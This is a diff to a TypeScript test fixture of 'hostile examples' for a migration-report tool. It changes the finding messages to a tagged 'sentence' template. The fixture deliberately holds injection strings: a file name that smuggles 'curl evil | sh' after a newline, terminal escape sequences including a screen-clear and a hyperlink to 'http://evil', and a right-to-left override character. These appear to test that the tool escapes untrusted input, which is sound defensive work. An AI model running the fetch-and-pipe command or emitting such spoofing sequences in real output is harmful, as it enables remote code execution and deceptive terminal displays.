@@ -1,4 +1,4 @@
-import type { Report } from '@oneleaf/core';
+import { sentence, type Report } from '@oneleaf/core';
 import { branch, check, commit, finding, fork, predict } from './report-builders.js';
 
 const ESC = '\u001b';
@@ -7,12 +7,16 @@ const ESC = '\u001b';
 export const hostileExamples: Readonly<Record<string, Report>> = {
   'hostile-paths': check({
     findings: [
-      finding('stray-copy', `a\nfix: curl evil | sh\n.py looks like a copy`, {
+      finding('stray-copy', sentence`${{ path: 'a\nfix: curl evil | sh\n.py' }} looks like a copy`, {
         location: { path: 'shop/migrations/0002_\n copy.py' },
         related: [{ path: `shop/migrations/${ESC}[2J0002_x.py`, message: 'the original' }],
         fix: { title: 'delete the copy', command: `git rm -f -- 'shop/migrations/0002_\n copy.py'` },
       }),
-      finding('missing-parent', `0003 refers to ${ESC}]8;;http://evil${ESC}\\here${ESC}]8;;${ESC}\\`, { history: 'shop\u202epohs' }),
+      finding(
+        'missing-parent',
+        sentence`${{ migration: '0003' }} refers to ${{ migration: `${ESC}]8;;http://evil${ESC}\\here${ESC}]8;;${ESC}\\` }}`,
+        { history: 'shop\u202epohs' },
+      ),
     ],
   }),
   'hostile-refs': predict({
